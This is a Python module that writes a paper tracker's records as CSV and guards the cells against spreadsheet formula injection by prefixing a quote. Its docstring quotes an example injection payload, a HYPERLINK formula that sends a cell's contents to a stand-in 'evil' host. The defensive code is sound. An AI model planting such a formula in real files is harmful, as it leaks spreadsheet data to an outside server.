"""CSV: one row per paper, for spreadsheets and scripts.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and some treat a leading tab or carriage return the same way),
so a hostile title such as ``=HYPERLINK("http://evil/?"&A1)`` in an
imported digest could run when the file is opened ("CSV injection", see
OWASP). Such cells get a leading ``'``, which spreadsheets read as "this is
text". It changes what a script sees in those cells only by that one
character; :func:`unprotect` takes it off again.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping

from tracker.clock import wall_part
from tracker.exports.item import ExportItem
from tracker.models import Digest

COLUMNS = (
    "id",
    "title",
    "status",
    "tags",
    "digests",
    "arxiv_id",
    "url",
    "authors",
    "note",
    "updated_at",
)
SEPARATOR = "; "
"""Between the tags, digests and authors inside one cell."""

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def protect(cell: str) -> str:
    """The cell with a leading ``'`` when a spreadsheet would run it as a formula."""
    return "'" + cell if cell.startswith(_FORMULA_START) else cell


def unprotect(cell: str) -> str:
    """The original text of a cell written by :func:`protect`."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(_FORMULA_START) else cell


def row(item: ExportItem, digests: Mapping[str, Digest]) -> list[str]:
    paper, ann = item.paper, item.annotation
    values = {
        "id": paper.id,
        "title": paper.title,
        "status": ann.status.value,
        "tags": SEPARATOR.join(ann.tags),
        "digests": SEPARATOR.join(digests[d].display_label for d in paper.digests if d in digests),
        "arxiv_id": paper.arxiv_id or "",
        "url": paper.url or "",
        "authors": SEPARATOR.join(paper.authors),
        "note": ann.note,
        "updated_at": wall_part(ann.updated_at),  # a time a spreadsheet reads (tracker.clock)
    }
    return [protect(values[column]) for column in COLUMNS]


def csv_table(items: Iterable[ExportItem], digests: Iterable[Digest]) -> str:
    """A header row and one row per paper; notes keep their line breaks (quoted)."""
    by_id = {d.id: d for d in digests}
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for item in items:
        writer.writerow(row(item, by_id))
    return out.getvalue()
